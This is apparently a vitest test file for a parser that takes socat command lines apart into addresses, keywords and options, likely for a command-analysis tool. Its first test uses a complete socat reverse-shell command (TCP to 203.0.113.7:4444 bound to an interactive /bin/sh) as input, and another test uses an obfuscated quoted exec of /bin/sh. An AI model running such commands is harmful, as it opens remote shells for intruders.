import { expect, test } from "vitest";
import { socat } from "./socat";

function meanings(...args: string[]) {
  return socat(["socat", ...args])?.addresses.map(({ halves }) =>
    halves.map(({ keyword, meaning, parameters, options }) => [
      keyword,
      meaning,
      parameters.join(" | "),
      options.map((option) => option.text).join(" "),
    ]),
  );
}

test("a reverse shell is taken apart", () => {
  expect(meanings("-d", "-lp", "x", "TCP:203.0.113.7:4444,retry=3", "EXEC:/bin/sh -i,pty,stderr")).toEqual([
    [["TCP", "connects", "203.0.113.7 | 4444", "retry=3"]],
    [["EXEC", "executes", "/bin/sh -i", "pty stderr"]],
  ]);
});

test("quotes and backslashes are taken as socat takes them", () => {
  expect(meanings("TC\\P:host:1", "'ex''ec':'/b''in/s''h',\"setsid\"")).toEqual([
    [["TCP", "connects", "host | 1", ""]],
    [["EXEC", "executes", "/bin/sh", "setsid"]],
  ]);
  expect(meanings("tcp6:[2001:db8::1]:443", "SYSTEM:echo a\\:b; cat")).toEqual([
    [["TCP6", "connects", "[2001:db8::1] | 443", ""]],
    [["SYSTEM", "system", "echo a:b; cat", ""]],
  ]);
});

test("addresses without a keyword, and two halves", () => {
  expect(meanings("-", "3")).toEqual([[["STDIO", "stdio", "", ""]], [["FD", "descriptor", "3", ""]]]);
  expect(meanings("/tmp/in!!/tmp/out", "openssl-listen:443,cert=a.pem")).toEqual([
    [
      ["GOPEN", "file", "/tmp/in", ""],
      ["GOPEN", "file", "/tmp/out", ""],
    ],
    [["OPENSSL-LISTEN", "listens", "443", "cert=a.pem"]],
  ]);
});

test("what is not socat's is left alone", () => {
  expect(socat(["sh"])).toBeUndefined();
  expect(socat(["socat", "-h"])).toBeUndefined();
  expect(socat(["socat", "a", "b", "c"])).toBeUndefined();
});

test("hostile arguments end", () => {
  const long = "(".repeat(100_000);
  expect(socat(["socat", `EXEC:${long}`, "'\\"])?.addresses.length).toBe(2);
});
